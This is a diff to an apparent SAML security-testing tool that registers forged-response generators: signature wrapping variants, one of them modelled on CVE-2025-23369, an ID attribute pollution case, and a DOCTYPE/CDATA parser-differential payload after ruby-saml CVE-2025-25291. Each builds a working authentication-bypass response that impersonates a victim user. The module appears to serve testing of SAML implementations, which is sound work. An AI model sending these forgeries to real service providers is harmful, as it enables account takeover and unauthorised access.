@@ -1742,3 +1742,87 @@ def _enc_attr(name: str | None) -> Fault:
         encrypt_element(attr, cert)
 
     return Fault("", "", tree=tree)
+
+
+# ============================================================================= batch: signatures borrowed from other signed documents
+@register_factory("xsw-foreign-signed",
+                  "Response and Assertion unsigned (victim optional); samlp:Extensions holds a genuine IdP-signed other document "
+                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata)",
+                  ("XSW-14", "XSW-15", "XSW-16"), source="error", victim=None)
+def _foreign(source: str, victim: str | None) -> Fault:
+    if source not in ("error", "metadata"):
+        raise ValueError("source must be error or metadata")
+
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        idp = ctx.idp
+        if source == "error":
+            from .builder import STATUS_REQUESTER, build_status_response
+            from .signing import sign
+
+            other = build_status_response(issuer=idp.entity_id, destination=ctx.spec.destination,
+                                          in_response_to=None, status_code=STATUS_REQUESTER)
+            sign(other, other, ctx.signing.key or idp.key)
+        else:
+            other = etree.fromstring(idp.metadata_xml(sign=True))
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        ext.append(other)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+        a = root.find(q(SAML, "Assertion"))
+        if a is not None:
+            _victimize(a, victim)
+        ctx.notes["foreign_id"] = other.get("ID")
+
+    return Fault("", "", signing=_set_signing(sign_response=False, sign_assertion=False), signed=signed)
+
+
+@register_factory("xsw-cve-2025-23369",
+                  "Response signature removed; the Assertion's signature copied under the Response after Issuer with a "
+                  "ds:Object holding the original Assertion; the real Assertion renamed ID+'ffff' (victim optional)",
+                  ("XSW-09", "CVE-2025-23369"), victim=None)
+def _xsw09(victim: str | None) -> Fault:
+    def signed(root: etree._Element, ctx: FaultContext) -> None:
+        rs = _sig(root)
+        if rs is not None:
+            root.remove(rs)
+        a = _assertion(root)
+        original = _drop_sig(copy.deepcopy(a))
+        sig_copy = copy.deepcopy(_asig(root))
+        obj = etree.SubElement(sig_copy, q(DS, "Object"))
+        obj.append(original)
+        root.find(q(SAML, "Issuer")).addnext(sig_copy)
+        a.set("ID", a.get("ID") + "ffff")
+        _victimize(a, victim)
+
+    return Fault("", "", signing=_set_signing(sign_response=True, sign_assertion=True), signed=signed)
+
+
+def _pollution(root: etree._Element, ctx: FaultContext) -> None:
+    original = root.get("ID")
+    root.set("ID", "_attack")
+    root.set(q(SAMLP, "ID"), original)
+
+
+register(Fault("id-attribute-pollution",
+               "Response ID changed to _attack and a namespaced samlp:ID carrying the signed ID (the Reference still says #ID)",
+               ("PDF-04",), signed=_pollution))
+
+
+@register_factory("doctype-roundtrip",
+                  "DOCTYPE round-trip differential (ruby-saml CVE-2025-25291 layout): DOCTYPE SYSTEM 'x\"><!--', a forged "
+                  "unsigned Response, and inside it a CDATA section holding the genuine signed Response",
+                  ("PDF-01", "CVE-2025-25291"), victim="victim@example.com")
+def _doctype_rt(victim: str) -> Fault:
+    def b(xml: bytes, ctx: FaultContext) -> bytes:
+        original = xml.split(b"?>", 1)[1].strip() if xml.startswith(b"<?xml") else xml
+        forged = etree.fromstring(original)
+        for s in _iter_tag(forged, q(DS, "Signature")):
+            s.getparent().remove(s)
+        a = forged.find(q(SAML, "Assertion"))
+        if a is not None:
+            _victimize(a, victim)
+        forged_b = etree.tostring(forged)
+        close = forged_b.rindex(b"</")
+        inner = b"<![CDATA[-->" + original + b"<!--]]>-->"
+        return (b"<!DOCTYPE response SYSTEM 'x\"><!--'>\n" + forged_b[:close] + inner + forged_b[close:])
+
+    return Fault("", "", bytes_=b)
